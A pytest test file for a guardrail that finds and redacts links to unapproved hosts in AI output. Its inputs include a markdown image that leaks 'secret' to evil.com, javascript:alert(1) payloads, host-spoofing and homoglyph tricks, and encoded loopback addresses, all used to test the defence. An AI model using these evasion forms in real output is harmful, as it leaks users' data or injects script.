"""Links: where they stand in a text, and where they may lead."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from ai_gateway.guardrails.checks import links
from ai_gateway.guardrails.links import host_of
from ai_gateway.guardrails.links import links as found_in
from tests.guardrails.finding import findings

ALLOWED = ["good.com", ".good.com", "b\u00fccher.de", "10.0.0.5", "[2001:db8::1]"]


def check(**keys: object) -> links.Parameters:
    """A check with these keys."""
    whole = {"name": "l", "type": "links", "stages": ["output"], "action": "redact", **keys}
    return links.Parameters.model_validate(whole)


def refused(text: str, **keys: object) -> list[tuple[str, str]]:
    """The links that may not be, each as (rule, text)."""
    found = findings(check(**keys or {"allowed_hosts": ALLOWED}), text)
    assert all(finding.score == 1 and finding.kind == "LINK" for finding in found)
    return [(finding.rule, text[finding.start : finding.end]) for finding in found]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "No link: note this, key:value, 12:30, a/b, e.g. i.e./x, main.py/y, std::vector<int>.",
        "see https://good.com. (http://www.good.com/a_(b)), HTTPS://GOOD.COM:443/?q=1#x",
        "https://good.com./ https://g\u043e\u043ed.com@good.com https://b\u00dccher.de",
        "https://xn--bcher-kva.de/ http://10.0.0.5 http://0xa.5 http://167772165/",
        "http://[2001:DB8:0::1]:80/ [a](<https://good.com>) ![b](/local?u=https:) [c](#top)",
        "\u8bf7\u770bhttps://good.com\u3002\u8c22\u8c22\u300chttps://good.com\u300d",
        "[Foo](Foo::bar) <img src=pictures/a.png> https://good.com/?next=https://evil.com",
        "https://good.com/a_(b) or use http:// or https://, and // for a comment",
        "mail bob@evil.com, user@evil.com/x",
        "https:\\/\\/good.com\\/a in JSON",
    ],
)
def test_what_leads_nowhere_else_passes(text: str) -> None:
    """Allowed hosts in any way to write them, relative links, and what is no link."""
    assert refused(text) == []


@pytest.mark.parametrize(
    ("text", "link"),
    [
        ("![x](https://evil.com/?q=secret)", "https://evil.com/?q=secret"),
        ("[x]( <https://evil.com/a> 'title')", "https://evil.com/a"),
        ("[1]: //evil.com/x", "//evil.com/x"),
        ("[x](\\\\evil.com/x)", "\\\\evil.com/x"),
        ("[x](/\\evil.com)", "/\\evil.com"),
        ("[x](&#104;ttps&colon;&sol;/evil.com)", "&#104;ttps&colon;&sol;/evil.com"),
        ("<img src='https://evil.com/a'>", "https://evil.com/a"),
        ("<IMG SRC = //evil.com/a>", "//evil.com/a"),
        ("<form action='//evil.com'>", "//evil.com"),
        ("background: url(//evil.com/a.png)", "//evil.com/a.png"),
        ("go to www.evil.com/x now", "www.evil.com/x"),
        ("evil.com/?q=1", "evil.com/?q=1"),
        ("a_https://evil.com", "https://evil.com"),
        ("http:/evil.com http:\\\\good.com", "http:/evil.com"),
        ("https:///evil.com", "https:///evil.com"),
        ("https://good.com@evil.com/", "https://good.com@evil.com/"),
        ("https://good.com:x@evil.com", "https://good.com:x@evil.com"),
        ("https://a@evil.com@good.com", "https://a@evil.com@good.com"),
        ("https://good.com\\@evil.com", "https://good.com\\@evil.com"),
        ("https://evil.com\\@good.com", "https://evil.com\\@good.com"),
        ("https://good.com%2f@evil.com", "https://good.com%2f@evil.com"),
        ("https://good.com%40evil.com", "https://good.com%40evil.com"),
        ("https://%65vil.com", "https://%65vil.com"),
        ("https://good.com.evil.com", "https://good.com.evil.com"),
        ("https://notgood.com", "https://notgood.com"),
        ("https://good.com,x.evil.com/", "https://good.com,x.evil.com/"),
        ("https://good.com\uff0f.evil.com", "https://good.com\uff0f.evil.com"),
        ("https://g\u043e\u043ed.com", "https://g\u043e\u043ed.com"),
        ("https://\uff45vil.com", "https://\uff45vil.com"),
        ("http://10.0.0.6", "http://10.0.0.6"),
        ("http://0x0a000006", "http://0x0a000006"),
        ("http://012.0.0.06/", "http://012.0.0.06/"),
        ("http://10.6 ", "http://10.6"),
        ("http://1.2.3.4.5", "http://1.2.3.4.5"),
        ("http://[::1]/", "http://[::1]/"),
        ("http://[::1", "http://[::1"),
        ("http://[good.com]/", "http://[good.com]/"),
        ("http://good.8/", "http://good.8/"),
        ("http://10.0.0.08/", "http://10.0.0.08/"),
        ("http://localhost:80", "http://localhost:80"),
        ("http://{host}/", "http://{host}/"),
        ("https://" + "a" * 300 + ".good.com", "https://" + "a" * 300 + ".good.com"),
        ("https://\ud800.com", "https://\ud800.com"),
        ("[a](https://good.com)https://evil.com", "https://evil.com"),
        ('https://good.com"https://evil.com', "https://evil.com"),
        ("\u202ehttps://evil.com", "https://evil.com"),
    ],
)
def test_a_link_to_another_host_is_found_where_it_stands(text: str, link: str) -> None:
    """However it is written, and whatever it pretends to be."""
    assert refused(text) == [("not-allowed", link)]


@pytest.mark.parametrize(
    ("text", "keys", "rules"),
    [
        ("https://a.com", {"allowed_hosts": []}, ["not-allowed"]),
        ("https://a.com", {}, []),
        ("https://a.com https://b.a.com", {"denied_hosts": [".a.com"]}, ["denied"]),
        ("http://2130706433", {"denied_hosts": ["127.0.0.1"]}, ["denied"]),
        ("http://[::ffff:127.0.0.1]", {"denied_hosts": ["127.0.0.1"]}, ["denied"]),
        ("[x](https://ev\u200bil\u3002com)", {"denied_hosts": ["evil.com"]}, ["denied"]),
        ("https://b.a.com", {"allowed_hosts": [".a.com"], "denied_hosts": ["b.a.com"]}, ["denied"]),
        ("[x](javascript:alert(1))", {}, ["scheme"]),
        ("[x](java&#115;cript:alert(1))", {}, ["scheme"]),
        ("<a href='java\tscript:alert(1)'>", {}, ["scheme"]),
        ("![x](data:image/png;base64,AA)", {}, ["scheme"]),
        ("<mailto:a@b.com> and mailto: or data: in a text", {}, ["scheme"]),
        ("ftp://a.com ssh://a.com", {}, ["scheme", "scheme"]),
        ("http://a.com", {"allowed_schemes": ["https"]}, ["scheme"]),
        ("[x](mailto:a@b.com)", {"allowed_schemes": ["mailto"], "allowed_hosts": []}, []),
    ],
)
def test_what_is_denied_or_of_another_scheme_is_told(
    text: str, keys: dict[str, object], rules: list[str]
) -> None:
    """Denied hosts win, then schemes, then what is not allowed."""
    assert [rule for rule, _ in refused(text, **{"denied_hosts": [], **keys})] == rules


LABEL = st.from_regex(r"[a-z][a-z0-9-]{0,9}[a-z]", fullmatch=True)


@given(st.lists(LABEL, min_size=1, max_size=4), st.sampled_from(["", ".", ":80", ":"]))
def test_a_host_is_the_same_however_it_is_written(labels: list[str], end: str) -> None:
    """In any case, full width, percent-encoded, with a port or a dot at its end."""
    host = ".".join(labels)
    wide = "".join(chr(ord(sign) + 0xFEE0) for sign in host)
    encoded = "".join(f"%{ord(sign):02x}" for sign in host)
    assert {host_of(way + end) for way in (host, host.upper(), wide, encoded)} == {host}


@given(st.integers(0, 2**32 - 1))
def test_an_address_is_the_same_in_every_form(value: int) -> None:
    """Decimal, hexadecimal, octal, of two parts."""
    high, low = value >> 24, value & 0xFFFFFF
    forms = (str(value), hex(value), f"0{value:o}", f"{high}.{low}", f"0x{high:x}.0{low:o}")
    dotted = ".".join(str(value >> shift & 255) for shift in (24, 16, 8, 0))
    assert {host_of(form) for form in forms} == {dotted}


SIGNS = st.text(st.sampled_from("htps:/\\@.?#&;[]()<>%'\" \t\nw0x\u3002\uff0e\u00e9\ud800srcef="))


@given(SIGNS, SIGNS)
def test_no_text_makes_it_fail_and_no_link_is_lost_in_one(before: str, behind: str) -> None:
    """Places are in order and within the text; a plain link between spaces is always found."""
    text = f"{before} https://evil.com {behind}"
    spans = [(link.start, link.end) for link in found_in(text)]
    assert all(start < end <= len(text) for start, end in spans)
    assert spans == sorted(spans)
    at = len(before) + 1
    assert any(start <= at and end >= at + len("https://evil.com") for start, end in spans)


@pytest.mark.parametrize(
    ("keys", "told"),
    [
        ({"allowed_hosts": ["https://a.com"]}, "docs.example.com"),
        ({"allowed_hosts": ["a.com:80"]}, "docs.example.com"),
        ({"allowed_hosts": ["*.a.com"]}, "docs.example.com"),
        ({"denied_hosts": [""]}, "docs.example.com"),
        ({"denied_hosts": ["a b"]}, "docs.example.com"),
        ({"allowed_schemes": []}, "allowed_schemes"),
        ({"allowed_schemes": ["HTTPS:"]}, "allowed_schemes"),
        ({"hosts": ["a.com"]}, "hosts"),
    ],
)
def test_keys_that_make_no_sense_are_told(keys: dict[str, object], told: str) -> None:
    """At start, with what would be right."""
    with pytest.raises(ValidationError, match=told):
        check(**keys)


@pytest.mark.parametrize(
    "text",
    [
        "The quick brown fox: jumps over a/b, and so on. " * 21_000,
        "\u00dcn\u00efcode stra\u00dfe \u00abhi\u00bb " * 50_000,
        "](a&" * 250_000,
        "src=aa:&x\n" * 100_000,
        "](aa::" * 170_000,
        "](//" * 250_000,
        "http://(" * 125_000,
        "http://" + "a@" * 500_000,
        "http://a" + ")(" * 500_000,
        "a." * 500_000,
        "[x](https://" + "\u00e9" * 1_000_000,
        "[x](https://" + "&amp;" * 200_000,
    ],
)
def test_a_long_text_is_read_at_once(text: str) -> None:
    """1 MB, also one that is made to be costly, takes less than a second of CPU time."""
    parameters = check(allowed_hosts=["good.com"])
    start = time.process_time()
    findings(parameters, text)
    assert time.process_time() - start < 1


def test_more_links_than_are_read_are_one_that_is_not_allowed() -> None:
    """A link does not hide behind 10,000 others."""
    start = time.process_time()
    (found,) = refused("https://good.com/a " * 50_000 + "https://evil.com")
    assert found[0] == "too-many"
    assert found[1].endswith("https://evil.com")
    assert time.process_time() - start < 1
